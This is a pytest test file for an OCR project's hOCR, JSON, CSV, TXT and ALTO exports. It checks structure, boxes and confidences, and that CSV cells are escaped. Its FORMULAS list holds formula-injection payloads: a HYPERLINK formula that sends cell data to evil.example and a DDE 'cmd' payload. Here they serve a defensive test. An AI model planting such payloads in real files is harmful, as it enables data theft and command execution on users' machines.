"""hOCR parses as XHTML with the hOCR properties; JSON and CSV read back to the lines."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from lxml import etree

from tests.exports.conftest import export_now, read
from tests.exports.factories import HORIZONTAL_PAGE, TWO_COLUMN_PAGE, VERTICAL_PAGE, published

XHTML = {"h": "http://www.w3.org/1999/xhtml"}
ALL_LINES = [HORIZONTAL_PAGE, TWO_COLUMN_PAGE, VERTICAL_PAGE]


def hocr_properties(title: str) -> dict[str, list[str]]:
    return {
        part.split()[0]: part.split()[1:] for part in (p.strip() for p in title.split(";")) if part
    }


def test_hocr_parses_as_xml_and_lines_carry_bbox_and_confidence(fixed_book):
    data = read(export_now(fixed_book, "hocr"))
    document = etree.fromstring(data, etree.XMLParser(no_network=True, resolve_entities=False))
    pages = document.findall(".//h:div[@class='ocr_page']", XHTML)
    assert len(pages) == 3
    for page, lines in zip(pages, ALL_LINES, strict=True):
        found = page.findall(".//h:span[@class='ocr_line']", XHTML)
        expected = published(lines)
        assert ["".join(line.itertext()) for line in found] == [t for _b, _e, t, *_ in expected]
        for element, (box, _engine, _text, confidence, vertical) in zip(
            found, expected, strict=True
        ):
            props = hocr_properties(element.get("title"))
            assert [int(v) for v in props["bbox"]] == list(box)
            wconf = int(props["x_wconf"][0])
            assert 0 <= wconf <= 100
            if confidence is not None and _engine == _text:
                assert wconf == round(confidence * 100)
            assert ("textangle" in props) == vertical
            for word in element.findall("h:span[@class='ocrx_word']", XHTML):
                x0, y0, x1, y1 = (int(v) for v in hocr_properties(word.get("title"))["bbox"])
                assert box[0] <= x0 <= x1 <= box[2] and box[1] <= y0 <= y1 <= box[3]
    for line in document.iterfind(".//h:span[@class='ocr_line']", XHTML):
        par = line.getparent()
        assert par.get("class") == "ocr_par"
        assert par.getparent().get("class") == "ocr_carea"
        assert par.getparent().getparent().get("class") == "ocr_page"
    page_title = hocr_properties(pages[0].get("title"))
    assert page_title["bbox"] == ["0", "0", "600", "800"]


def test_hocr_parses_as_html(fixed_book):
    """Browsers and hOCR tools read it as HTML too: every element closes, classes are hOCR's."""
    classes = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            classes.extend(value for name, value in attrs if name == "class")

    parser = Collector()
    parser.feed(read(export_now(fixed_book, "hocr")).decode("utf-8"))
    parser.close()
    assert classes.count("ocr_page") == 3
    assert classes.count("ocr_line") == sum(len(published(lines)) for lines in ALL_LINES)
    assert set(classes) == {"ocr_page", "ocr_carea", "ocr_par", "ocr_line", "ocrx_word"}


def test_json_reads_back_to_every_line_with_both_texts(fixed_book):
    document = json.loads(read(export_now(fixed_book, "json")))
    assert document["book"]["slug"] == "fixed-book"
    assert [v["sequence"] for v in document["volumes"]] == [1, 2]
    pages = [page for volume in document["volumes"] for page in volume["pages"]]
    assert [p["number"] for p in pages] == [1, 2, 3]
    for page, lines in zip(pages, ALL_LINES, strict=True):
        assert [
            (
                tuple(line["box"]),
                line["engine_text"],
                line["text"],
                line["confidence"],
                line["vertical"],
            )
            for line in page["lines"]
        ] == lines
        assert all(len(line["polygon"]) == 4 for line in page["lines"])


def test_csv_has_one_row_per_line(fixed_book):
    rows = list(csv.DictReader(io.StringIO(read(export_now(fixed_book, "csv")).decode("utf-8"))))
    expected = [line for lines in ALL_LINES for line in lines]
    assert len(rows) == len(expected)
    for row, (box, engine_text, text, confidence, vertical) in zip(rows, expected, strict=True):
        assert (row["text"], row["engine_text"]) == (text, engine_text)
        assert [int(row[k]) for k in ("x0", "y0", "x1", "y1")] == list(box)
        assert row["confidence"] == ("" if confidence is None else f"{confidence:.4f}")
        assert row["corrected"] == str(int(text != engine_text))
        assert row["vertical"] == str(int(vertical))


def test_txt_pages_are_separated_and_engine_source_gives_engine_text(fixed_book):
    corrected = read(export_now(fixed_book, "txt")).decode("utf-8").split("\f")
    engine = read(export_now(fixed_book, "txt", text_source="engine")).decode("utf-8")
    assert len(corrected) == 3
    assert corrected[1].splitlines() == [t for _b, _e, t, *_ in TWO_COLUMN_PAGE]
    assert "The Annual meeting" in corrected[0] and "Anual" not in corrected[0]
    assert re.search(r"^The Anual meeting was held$", engine, re.M)
    assert "Added by hand" not in engine and "stray mark" in engine


def test_control_characters_in_a_correction_do_not_break_xml(fixed_book):
    from ocr.models import TextLine

    TextLine.objects.filter(text="Left one").update(text="Left\x01 one\x07")
    hocr = etree.fromstring(read(export_now(fixed_book, "hocr")))
    words = [e.text for e in hocr.iter("{http://www.w3.org/1999/xhtml}span") if e.text]
    assert words[words.index("Left") : words.index("Left") + 2] == ["Left", "one"]
    alto = etree.fromstring(read(export_now(fixed_book, "alto")))
    contents = [e.get("CONTENT") for e in alto.iter() if e.get("CONTENT")]
    assert contents[contents.index("Left") : contents.index("Left") + 2] == ["Left", "one"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe(fixed_book, formula):
    from ocr.models import TextLine

    TextLine.objects.filter(text="Left one").update(text=formula, engine_text=formula)
    rows = list(csv.DictReader(io.StringIO(read(export_now(fixed_book, "csv")).decode("utf-8"))))
    row = next(r for r in rows if r["text"].endswith(formula))
    assert (row["text"], row["engine_text"]) == ("'" + formula, "'" + formula)
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r)


def test_csv_leaves_ordinary_text_and_inner_formula_characters_alone(fixed_book):
    from ocr.models import TextLine

    TextLine.objects.filter(text="Left one").update(text="a = b + c - d @ e")
    rows = list(csv.DictReader(io.StringIO(read(export_now(fixed_book, "csv")).decode("utf-8"))))
    assert "a = b + c - d @ e" in [r["text"] for r in rows]
